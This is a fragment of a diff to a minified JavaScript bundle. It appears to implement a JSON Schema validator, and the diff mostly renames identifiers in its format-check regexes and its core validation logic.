-$v=/^(?:[a-z][a-z0-9+\-.]*:)?(?:\/?\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:]|%[0-9a-f]{2})*@)?(?:\[(?:(?:(?:(?:[0-9a-f]{1,4}:){6}|::(?:[0-9a-f]{1,4}:){5}|(?:[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){4}|(?:(?:[0-9a-f]{1,4}:){0,1}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){3}|(?:(?:[0-9a-f]{1,4}:){0,2}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){2}|(?:(?:[0-9a-f]{1,4}:){0,3}[0-9a-f]{1,4})?::[0-9a-f]{1,4}:|(?:(?:[0-9a-f]{1,4}:){0,4}[0-9a-f]{1,4})?::)(?:[0-9a-f]{1,4}:[0-9a-f]{1,4}|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?))|(?:(?:[0-9a-f]{1,4}:){0,5}[0-9a-f]{1,4})?::[0-9a-f]{1,4}|(?:(?:[0-9a-f]{1,4}:){0,6}[0-9a-f]{1,4})?::)|[Vv][0-9a-f]+\.[a-z0-9\-._~!$&'()*+,;=:]+)\]|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)|(?:[a-z0-9\-._~!$&'"()*+,;=]|%[0-9a-f]{2})*)(?::\d*)?(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*|\/(?:(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*)?|(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*)?(?:\?(?:[a-z0-9\-._~!$&'"()*+,;=:@/?]|%[0-9a-f]{2})*)?(?:#(?:[a-z0-9\-._~!$&'"()*+,;=:@/?]|%[0-9a-f]{2})*)?$/i,
-Rv=/^(?:(?:[^\x00-\x20\x7f"<>%\\^`{|}]|%[0-9a-f]{2})|\{[+#./;?&=,!@|]?(?:[a-z0-9_]|%[0-9a-f]{2})+(?:\.(?:[a-z0-9_]|%[0-9a-f]{2})+)*(?::[1-9][0-9]{0,3}|\*)?(?:,(?:[a-z0-9_]|%[0-9a-f]{2})+(?:\.(?:[a-z0-9_]|%[0-9a-f]{2})+)*(?::[1-9][0-9]{0,3}|\*)?)*\})*$/i,
-Nv=/^(?:(?:https?|ftp):\/\/)(?:\S+(?::\S*)?@)?(?:(?!10(?:\.\d{1,3}){3})(?!127(?:\.\d{1,3}){3})(?!169\.254(?:\.\d{1,3}){2})(?!192\.168(?:\.\d{1,3}){2})(?!172\.(?:1[6-9]|2\d|3[0-1])(?:\.\d{1,3}){2})(?:[1-9]\d?|1\d\d|2[01]\d|22[0-3])(?:\.(?:1?\d{1,2}|2[0-4]\d|25[0-5])){2}(?:\.(?:[1-9]\d?|1\d\d|2[0-4]\d|25[0-4]))|(?:(?:[a-z\u{00a1}-\u{ffff}0-9]+-?)*[a-z\u{00a1}-\u{ffff}0-9]+)(?:\.(?:[a-z\u{00a1}-\u{ffff}0-9]+-?)*[a-z\u{00a1}-\u{ffff}0-9]+)*(?:\.(?:[a-z\u{00a1}-\u{ffff}]{2,})))(?::\d{2,5})?(?:\/[^\s]*)?$/iu,
-Fv=/^[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}$/i,Lv=/^(?:\/(?:[^~/]|~0|~1)*)*$/,Pv=/^#(?:\/(?:[a-z0-9_\-.!$&'()*+,;:=@]|%[0-9a-f]{2}|~0|~1)*)*$/i,
-jv=/^(?:0|[1-9][0-9]*)(?:#|(?:\/(?:[^~/]|~0|~1)*)*)$/,Mv=/^("(?:[\x20-\x21\x23-\x5b\x5d-\x7e]|\\[\x20-\x7e])*"|[a-z0-9.!#$%&'*+/=?^_`{|}~-]+)@(.+)$/i,
-Gv=t=>{const e=t.match(Mv);if(!e)return!1;const n=e[1],s=e[2];if(!n||!s||n.length>64||s.length>253||n[0]!=='"'&&(n[0]===
+if(!Object.prototype.hasOwnProperty.call(e,c)||!Hs(t[c],e[c]))return!1;return!0}return t===e}const Ov=/^(\d\d\d\d)-(\d\d)-(\d\d)$/,
+Av=[0,31,28,31,30,31,30,31,31,30,31,30,31],Sv=/^(\d\d):(\d\d):(\d\d)(\.\d+)?(z|([+-])(\d\d):(\d\d))?$/i,pB=/^(?=.{1,253}$)[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?(?:\.[a-z0-9](?:[-0-9a-z]{0,61}[0-9a-z])?)*$/i,
+Tv=/^(?:[a-z][a-z0-9+\-.]*:)?(?:\/?\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:]|%[0-9a-f]{2})*@)?(?:\[(?:(?:(?:(?:[0-9a-f]{1,4}:){6}|::(?:[0-9a-f]{1,4}:){5}|(?:[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){4}|(?:(?:[0-9a-f]{1,4}:){0,1}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){3}|(?:(?:[0-9a-f]{1,4}:){0,2}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){2}|(?:(?:[0-9a-f]{1,4}:){0,3}[0-9a-f]{1,4})?::[0-9a-f]{1,4}:|(?:(?:[0-9a-f]{1,4}:){0,4}[0-9a-f]{1,4})?::)(?:[0-9a-f]{1,4}:[0-9a-f]{1,4}|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?))|(?:(?:[0-9a-f]{1,4}:){0,5}[0-9a-f]{1,4})?::[0-9a-f]{1,4}|(?:(?:[0-9a-f]{1,4}:){0,6}[0-9a-f]{1,4})?::)|[Vv][0-9a-f]+\.[a-z0-9\-._~!$&'()*+,;=:]+)\]|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)|(?:[a-z0-9\-._~!$&'"()*+,;=]|%[0-9a-f]{2})*)(?::\d*)?(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*|\/(?:(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*)?|(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*)?(?:\?(?:[a-z0-9\-._~!$&'"()*+,;=:@/?]|%[0-9a-f]{2})*)?(?:#(?:[a-z0-9\-._~!$&'"()*+,;=:@/?]|%[0-9a-f]{2})*)?$/i,
+Iv=/^(?:(?:[^\x00-\x20\x7f"<>%\\^`{|}]|%[0-9a-f]{2})|\{[+#./;?&=,!@|]?(?:[a-z0-9_]|%[0-9a-f]{2})+(?:\.(?:[a-z0-9_]|%[0-9a-f]{2})+)*(?::[1-9][0-9]{0,3}|\*)?(?:,(?:[a-z0-9_]|%[0-9a-f]{2})+(?:\.(?:[a-z0-9_]|%[0-9a-f]{2})+)*(?::[1-9][0-9]{0,3}|\*)?)*\})*$/i,
+$v=/^(?:(?:https?|ftp):\/\/)(?:\S+(?::\S*)?@)?(?:(?!10(?:\.\d{1,3}){3})(?!127(?:\.\d{1,3}){3})(?!169\.254(?:\.\d{1,3}){2})(?!192\.168(?:\.\d{1,3}){2})(?!172\.(?:1[6-9]|2\d|3[0-1])(?:\.\d{1,3}){2})(?:[1-9]\d?|1\d\d|2[01]\d|22[0-3])(?:\.(?:1?\d{1,2}|2[0-4]\d|25[0-5])){2}(?:\.(?:[1-9]\d?|1\d\d|2[0-4]\d|25[0-4]))|(?:(?:[a-z\u{00a1}-\u{ffff}0-9]+-?)*[a-z\u{00a1}-\u{ffff}0-9]+)(?:\.(?:[a-z\u{00a1}-\u{ffff}0-9]+-?)*[a-z\u{00a1}-\u{ffff}0-9]+)*(?:\.(?:[a-z\u{00a1}-\u{ffff}]{2,})))(?::\d{2,5})?(?:\/[^\s]*)?$/iu,
+Rv=/^[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}$/i,Nv=/^(?:\/(?:[^~/]|~0|~1)*)*$/,Fv=/^#(?:\/(?:[a-z0-9_\-.!$&'()*+,;:=@]|%[0-9a-f]{2}|~0|~1)*)*$/i,
+Lv=/^(?:0|[1-9][0-9]*)(?:#|(?:\/(?:[^~/]|~0|~1)*)*)$/,Pv=/^("(?:[\x20-\x21\x23-\x5b\x5d-\x7e]|\\[\x20-\x7e])*"|[a-z0-9.!#$%&'*+/=?^_`{|}~-]+)@(.+)$/i,
+jv=t=>{const e=t.match(Pv);if(!e)return!1;const n=e[1],s=e[2];if(!n||!s||n.length>64||s.length>253||n[0]!=='"'&&(n[0]===
 "."||n.endsWith(".")||n.includes("..")))return!1;if(s.startsWith("[")&&s.endsWith("]")){const r=s.slice(1,-1);return/^ipv6:/i.
-test(r)?bB.test(r.slice(5)):wB.test(r)}return yB.test(s)},wB=/^(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)$/,
-bB=/^((([0-9a-f]{1,4}:){7}([0-9a-f]{1,4}|:))|(([0-9a-f]{1,4}:){6}(:[0-9a-f]{1,4}|((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3})|:))|(([0-9a-f]{1,4}:){5}(((:[0-9a-f]{1,4}){1,2})|:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3})|:))|(([0-9a-f]{1,4}:){4}(((:[0-9a-f]{1,4}){1,3})|((:[0-9a-f]{1,4})?:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){3}(((:[0-9a-f]{1,4}){1,4})|((:[0-9a-f]{1,4}){0,2}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){2}(((:[0-9a-f]{1,4}){1,5})|((:[0-9a-f]{1,4}){0,3}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){1}(((:[0-9a-f]{1,4}){1,6})|((:[0-9a-f]{1,4}){0,4}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(:(((:[0-9a-f]{1,4}){1,7})|((:[0-9a-f]{1,4}){0,5}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:)))$/i,
-Hv=t=>/^P(?:\d+W|(?:(?:\d+Y(?:\d+M(?:\d+D)?)?|\d+M(?:\d+D)?|\d+D)(?:T(?:\d+H(?:\d+M(?:\d+S)?)?|\d+M(?:\d+S)?|\d+S))?|T(?:\d+H(?:\d+M(?:\d+S)?)?|\d+M(?:\d+S)?|\d+S)))$/.
-test(t);function qt(t){return t.test.bind(t)}const _B={date:EB,time:kB.bind(void 0,!0),"date-time":Jv,duration:Hv,uri:Wv,
-"uri-reference":qt($v),"uri-template":qt(Rv),url:qt(Nv),email:Gv,hostname:qt(yB),ipv4:qt(wB),ipv6:qt(bB),regex:Vv,uuid:qt(
-Fv),"json-pointer":qt(Lv),"json-pointer-uri-fragment":qt(Pv),"relative-json-pointer":qt(jv)};function zv(t){return t%4===
-0&&(t%100!==0||t%400===0)}function EB(t){const e=t.match(Sv);if(!e)return!1;const n=e[1],s=e[2],r=e[3];if(!n||!s||!r)return!1;
-const i=+n,o=+s,a=+r,c=o==2&&zv(i)?29:Tv[o];return o>=1&&o<=12&&a>=1&&c!==void 0&&a<=c}function kB(t,e){const n=e.match(
-Iv);if(!n)return!1;const s=n[1],r=n[2],i=n[3];if(!s||!r||!i)return!1;const o=+s,a=+r,c=+i,u=n[5],l=n[6],d=+(n[7]??0),B=+(n[8]??
+test(r)?gB.test(r.slice(5)):mB.test(r)}return pB.test(s)},mB=/^(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)$/,
+gB=/^((([0-9a-f]{1,4}:){7}([0-9a-f]{1,4}|:))|(([0-9a-f]{1,4}:){6}(:[0-9a-f]{1,4}|((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3})|:))|(([0-9a-f]{1,4}:){5}(((:[0-9a-f]{1,4}){1,2})|:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3})|:))|(([0-9a-f]{1,4}:){4}(((:[0-9a-f]{1,4}){1,3})|((:[0-9a-f]{1,4})?:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){3}(((:[0-9a-f]{1,4}){1,4})|((:[0-9a-f]{1,4}){0,2}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){2}(((:[0-9a-f]{1,4}){1,5})|((:[0-9a-f]{1,4}){0,3}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){1}(((:[0-9a-f]{1,4}){1,6})|((:[0-9a-f]{1,4}){0,4}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(:(((:[0-9a-f]{1,4}){1,7})|((:[0-9a-f]{1,4}){0,5}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:)))$/i,
+Mv=t=>/^P(?:\d+W|(?:(?:\d+Y(?:\d+M(?:\d+D)?)?|\d+M(?:\d+D)?|\d+D)(?:T(?:\d+H(?:\d+M(?:\d+S)?)?|\d+M(?:\d+S)?|\d+S))?|T(?:\d+H(?:\d+M(?:\d+S)?)?|\d+M(?:\d+S)?|\d+S)))$/.
+test(t);function Vt(t){return t.test.bind(t)}const CB={date:yB,time:wB.bind(void 0,!0),"date-time":zv,duration:Mv,uri:Zv,
+"uri-reference":Vt(Tv),"uri-template":Vt(Iv),url:Vt($v),email:jv,hostname:Vt(pB),ipv4:Vt(mB),ipv6:Vt(gB),regex:qv,uuid:Vt(
+Rv),"json-pointer":Vt(Nv),"json-pointer-uri-fragment":Vt(Fv),"relative-json-pointer":Vt(Lv)};function Gv(t){return t%4===
+0&&(t%100!==0||t%400===0)}function yB(t){const e=t.match(Ov);if(!e)return!1;const n=e[1],s=e[2],r=e[3];if(!n||!s||!r)return!1;
+const i=+n,o=+s,a=+r,c=o==2&&Gv(i)?29:Av[o];return o>=1&&o<=12&&a>=1&&c!==void 0&&a<=c}function wB(t,e){const n=e.match(
+Sv);if(!n)return!1;const s=n[1],r=n[2],i=n[3];if(!s||!r||!i)return!1;const o=+s,a=+r,c=+i,u=n[5],l=n[6],d=+(n[7]??0),B=+(n[8]??
 0);if(o>23||a>59||c>60||d>23||B>59||t&&u===void 0)return!1;if(c<60)return!0;const f=l==="+"?1:l==="-"?-1:0;return(o*60+a-
-f*(d*60+B)+1440)%1440===1439}const Uv=/t|\s/i;function Jv(t){const[e,n,s]=t.split(Uv);return e!==void 0&&n!==void 0&&s===
-void 0&&EB(e)&&kB(!0,n)}const Zv=/\/|:/,Kv=/^(?:[a-z][a-z0-9+\-.]*:)(?:\/?\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:]|%[0-9a-f]{2})*@)?(?:\[(?:(?:(?:(?:[0-9a-f]{1,4}:){6}|::(?:[0-9a-f]{1,4}:){5}|(?:[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){4}|(?:(?:[0-9a-f]{1,4}:){0,1}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){3}|(?:(?:[0-9a-f]{1,4}:){0,2}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){2}|(?:(?:[0-9a-f]{1,4}:){0,3}[0-9a-f]{1,4})?::[0-9a-f]{1,4}:|(?:(?:[0-9a-f]{1,4}:){0,4}[0-9a-f]{1,4})?::)(?:[0-9a-f]{1,4}:[0-9a-f]{1,4}|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?))|(?:(?:[0-9a-f]{1,4}:){0,5}[0-9a-f]{1,4})?::[0-9a-f]{1,4}|(?:(?:[0-9a-f]{1,4}:){0,6}[0-9a-f]{1,4})?::)|[Vv][0-9a-f]+\.[a-z0-9\-._~!$&'()*+,;=:]+)\]|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)|(?:[a-z0-9\-._~!$&'()*+,;=]|%[0-9a-f]{2})*)(?::\d*)?(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*|\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*)?|(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*)(?:\?(?:[a-z0-9\-._~!$&'()*+,;=:@/?]|%[0-9a-f]{2})*)?(?:#(?:[a-z0-9\-._~!$&'()*+,;=:@/?]|%[0-9a-f]{2})*)?$/i;
-function Wv(t){return Zv.test(t)&&Kv.test(t)}const qv=/[^\\]\\Z/;function Vv(t){if(qv.test(t))return!1;try{return new RegExp(
-t,"u"),!0}catch{return!1}}function Yv(t){let e=0,n=t.length,s=0,r;for(;s<n;)e++,r=t.charCodeAt(s++),r>=55296&&r<=56319&&
+f*(d*60+B)+1440)%1440===1439}const Hv=/t|\s/i;function zv(t){const[e,n,s]=t.split(Hv);return e!==void 0&&n!==void 0&&s===
+void 0&&yB(e)&&wB(!0,n)}const Uv=/\/|:/,Jv=/^(?:[a-z][a-z0-9+\-.]*:)(?:\/?\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:]|%[0-9a-f]{2})*@)?(?:\[(?:(?:(?:(?:[0-9a-f]{1,4}:){6}|::(?:[0-9a-f]{1,4}:){5}|(?:[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){4}|(?:(?:[0-9a-f]{1,4}:){0,1}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){3}|(?:(?:[0-9a-f]{1,4}:){0,2}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){2}|(?:(?:[0-9a-f]{1,4}:){0,3}[0-9a-f]{1,4})?::[0-9a-f]{1,4}:|(?:(?:[0-9a-f]{1,4}:){0,4}[0-9a-f]{1,4})?::)(?:[0-9a-f]{1,4}:[0-9a-f]{1,4}|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?))|(?:(?:[0-9a-f]{1,4}:){0,5}[0-9a-f]{1,4})?::[0-9a-f]{1,4}|(?:(?:[0-9a-f]{1,4}:){0,6}[0-9a-f]{1,4})?::)|[Vv][0-9a-f]+\.[a-z0-9\-._~!$&'()*+,;=:]+)\]|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)|(?:[a-z0-9\-._~!$&'()*+,;=]|%[0-9a-f]{2})*)(?::\d*)?(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*|\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*)?|(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*)(?:\?(?:[a-z0-9\-._~!$&'()*+,;=:@/?]|%[0-9a-f]{2})*)?(?:#(?:[a-z0-9\-._~!$&'()*+,;=:@/?]|%[0-9a-f]{2})*)?$/i;
+function Zv(t){return Uv.test(t)&&Jv.test(t)}const Kv=/[^\\]\\Z/;function qv(t){if(Kv.test(t))return!1;try{return new RegExp(
+t,"u"),!0}catch{return!1}}function Wv(t){let e=0,n=t.length,s=0,r;for(;s<n;)e++,r=t.charCodeAt(s++),r>=55296&&r<=56319&&
 s<n&&(r=t.charCodeAt(s),(r&64512)==56320&&s++);return e}function Ln(t,e){return Object.prototype.hasOwnProperty.call(t,e)}
-function vB(t){const e=Math.abs(t).toString().split("e"),n=e[0],s=e[1]??"0",r=n.indexOf("."),i=r===-1?0:n.length-r-1;return[
-BigInt(n.replace(".","")),Number(s)-i]}function Xv(t,e){if(!Number.isFinite(t)||!Number.isFinite(e)||e<=0)return!1;const[
-n,s]=vB(t),[r,i]=vB(e),o=s-i;return o>=0?n*10n**BigInt(o)%r===0n:n%(r*10n**BigInt(-o))===0n}function st(t,e,n="2019-09",s=Fn(
+function bB(t){const e=Math.abs(t).toString().split("e"),n=e[0],s=e[1]??"0",r=n.indexOf("."),i=r===-1?0:n.length-r-1;return[
+BigInt(n.replace(".","")),Number(s)-i]}function Vv(t,e){if(!Number.isFinite(t)||!Number.isFinite(e)||e<=0)return!1;const[
+n,s]=bB(t),[r,i]=bB(e),o=s-i;return o>=0?n*10n**BigInt(o)%r===0n:n%(r*10n**BigInt(-o))===0n}function st(t,e,n="2019-09",s=Fn(
 e),r=!0,i=null,o="#",a="#",c=Object.create(null)){if(e===!0)return{valid:!0,errors:[]};if(e===!1)return{valid:!1,errors:[
 {instanceLocation:o,keyword:"false",keywordLocation:o,error:"False boolean schema."}]};const u=typeof t;let l;switch(u){case"\
 boolean":case"number":case"string":l=u;break;case"object":t===null?l="null":Array.isArray(t)?l="array":l="object";break;default:
@@ -3010,109 +3012,109 @@ enum:g,required:C,not:b,anyOf:y,allOf:D,oneOf:O,if:v,then:I,else:_,format:$,prop
 unevaluatedProperties:Z,minProperties:le,maxProperties:de,propertyNames:G,dependentRequired:ce,dependentSchemas:De,dependencies:Ne,
 prefixItems:te,items:Me,additionalItems:Ge,unevaluatedItems:_e,contains:Ee,minContains:K,maxContains:H,minItems:Y,maxItems:pe,
 uniqueItems:Ce,minimum:U,maximum:re,exclusiveMinimum:R,exclusiveMaximum:Le,multipleOf:Fe,minLength:je,maxLength:M,pattern:F,
-__absolute_ref__:Ye,__absolute_recursive_ref__:Ie}=e,q=[];if(f===!0&&i===null&&(i=e),B==="#"){const oe=i===null?s[Ie]:i,
-ae=`${a}/$recursiveRef`,we=st(t,i===null?e:i,n,s,r,oe,o,ae,c);we.valid||q.push({instanceLocation:o,keyword:"$recursiveRe\
+__absolute_ref__:Ye,__absolute_recursive_ref__:Ie}=e,W=[];if(f===!0&&i===null&&(i=e),B==="#"){const oe=i===null?s[Ie]:i,
+ae=`${a}/$recursiveRef`,we=st(t,i===null?e:i,n,s,r,oe,o,ae,c);we.valid||W.push({instanceLocation:o,keyword:"$recursiveRe\
 f",keywordLocation:ae,error:"A subschema had errors."},...we.errors)}if(d!==void 0){const ae=s[Ye||d];if(ae===void 0){let Q=`\
 Unresolved $ref "${d}".`;throw Ye&&Ye!==d&&(Q+=`  Absolute URI "${Ye}".`),Q+=`
 Known schemas:
 - ${Object.keys(s).join(`
-- `)}`,new Error(Q)}const we=`${a}/$ref`,ne=st(t,ae,n,s,r,i,o,we,c);if(ne.valid||q.push({instanceLocation:o,keyword:"$re\
-f",keywordLocation:we,error:"A subschema had errors."},...ne.errors),n==="4"||n==="7")return{valid:q.length===0,errors:q}}
+- `)}`,new Error(Q)}const we=`${a}/$ref`,ne=st(t,ae,n,s,r,i,o,we,c);if(ne.valid||W.push({instanceLocation:o,keyword:"$re\
+f",keywordLocation:we,error:"A subschema had errors."},...ne.errors),n==="4"||n==="7")return{valid:W.length===0,errors:W}}
 if(Array.isArray(h)){let oe=h.length,ae=!1;for(let we=0;we<oe;we++)if(l===h[we]||h[we]==="integer"&&l==="number"&&t%1===
-0&&t===t){ae=!0;break}ae||q.push({instanceLocation:o,keyword:"type",keywordLocation:`${a}/type`,error:`Instance type "${l}\
-" is invalid. Expected "${h.join('", "')}".`})}else h==="integer"?(l!=="number"||t%1||t!==t)&&q.push({instanceLocation:o,
+0&&t===t){ae=!0;break}ae||W.push({instanceLocation:o,keyword:"type",keywordLocation:`${a}/type`,error:`Instance type "${l}\
+" is invalid. Expected "${h.join('", "')}".`})}else h==="integer"?(l!=="number"||t%1||t!==t)&&W.push({instanceLocation:o,
 keyword:"type",keywordLocation:`${a}/type`,error:`Instance type "${l}" is invalid. Expected "${h}".`}):h!==void 0&&l!==h&&
-q.push({instanceLocation:o,keyword:"type",keywordLocation:`${a}/type`,error:`Instance type "${l}" is invalid. Expected "${h}\
-".`});if(m!==void 0&&(l==="object"||l==="array"?Hs(t,m)||q.push({instanceLocation:o,keyword:"const",keywordLocation:`${a}\
-/const`,error:`Instance does not match ${JSON.stringify(m)}.`}):t!==m&&q.push({instanceLocation:o,keyword:"const",keywordLocation:`${a}\
+W.push({instanceLocation:o,keyword:"type",keywordLocation:`${a}/type`,error:`Instance type "${l}" is invalid. Expected "${h}\
+".`});if(m!==void 0&&(l==="object"||l==="array"?Hs(t,m)||W.push({instanceLocation:o,keyword:"const",keywordLocation:`${a}\
+/const`,error:`Instance does not match ${JSON.stringify(m)}.`}):t!==m&&W.push({instanceLocation:o,keyword:"const",keywordLocation:`${a}\
 /const`,error:`Instance does not match ${JSON.stringify(m)}.`})),g!==void 0&&(l==="object"||l==="array"?g.some(oe=>Hs(t,
-oe))||q.push({instanceLocation:o,keyword:"enum",keywordLocation:`${a}/enum`,error:`Instance does not match any of ${JSON.
-stringify(g)}.`}):g.some(oe=>t===oe)||q.push({instanceLocation:o,keyword:"enum",keywordLocation:`${a}/enum`,error:`Insta\
-nce does not match any of ${JSON.stringify(g)}.`})),b!==void 0){const oe=`${a}/not`;st(t,b,n,s,r,i,o,oe).valid&&q.push({
+oe))||W.push({instanceLocation:o,keyword:"enum",keywordLocation:`${a}/enum`,error:`Instance does not match any of ${JSON.
+stringify(g)}.`}):g.some(oe=>t===oe)||W.push({instanceLocation:o,keyword:"enum",keywordLocation:`${a}/enum`,error:`Insta\
+nce does not match any of ${JSON.stringify(g)}.`})),b!==void 0){const oe=`${a}/not`;st(t,b,n,s,r,i,o,oe).valid&&W.push({
 instanceLocation:o,keyword:"not",keywordLocation:oe,error:'Instance matched "not" schema.'})}let rt=[];if(y!==void 0){const oe=`${a}\
-/anyOf`,ae=q.length;let we=!1;for(const[ne,Q]of y.entries()){const W=Object.create(c),he=st(t,Q,n,s,r,f===!0?i:null,o,`${oe}\
-/${ne}`,W);q.push(...he.errors),we=we||he.valid,he.valid&&rt.push(W)}we?q.length=ae:q.splice(ae,0,{instanceLocation:o,keyword:"\
-anyOf",keywordLocation:oe,error:"Instance does not match any subschemas."})}if(D!==void 0){const oe=`${a}/allOf`,ae=q.length;
-let we=!0;for(const[ne,Q]of D.entries()){const W=Object.create(c),he=st(t,Q,n,s,r,f===!0?i:null,o,`${oe}/${ne}`,W);q.push(
-...he.errors),we=we&&he.valid,he.valid&&rt.push(W)}we?q.length=ae:q.splice(ae,0,{instanceLocation:o,keyword:"allOf",keywordLocation:oe,
-error:"Instance does not match every subschema."})}if(O!==void 0){const oe=`${a}/oneOf`,ae=q.length,we=O.filter((ne,Q)=>{
-const W=Object.create(c),he=st(t,ne,n,s,r,f===!0?i:null,o,`${oe}/${Q}`,W);return q.push(...he.errors),he.valid&&rt.push(
-W),he.valid}).length;we===1?q.length=ae:q.splice(ae,0,{instanceLocation:o,keyword:"oneOf",keywordLocation:oe,error:`Inst\
+/anyOf`,ae=W.length;let we=!1;for(const[ne,Q]of y.entries()){const q=Object.create(c),he=st(t,Q,n,s,r,f===!0?i:null,o,`${oe}\
+/${ne}`,q);W.push(...he.errors),we=we||he.valid,he.valid&&rt.push(q)}we?W.length=ae:W.splice(ae,0,{instanceLocation:o,keyword:"\
+anyOf",keywordLocation:oe,error:"Instance does not match any subschemas."})}if(D!==void 0){const oe=`${a}/allOf`,ae=W.length;
+let we=!0;for(const[ne,Q]of D.entries()){const q=Object.create(c),he=st(t,Q,n,s,r,f===!0?i:null,o,`${oe}/${ne}`,q);W.push(
+...he.errors),we=we&&he.valid,he.valid&&rt.push(q)}we?W.length=ae:W.splice(ae,0,{instanceLocation:o,keyword:"allOf",keywordLocation:oe,
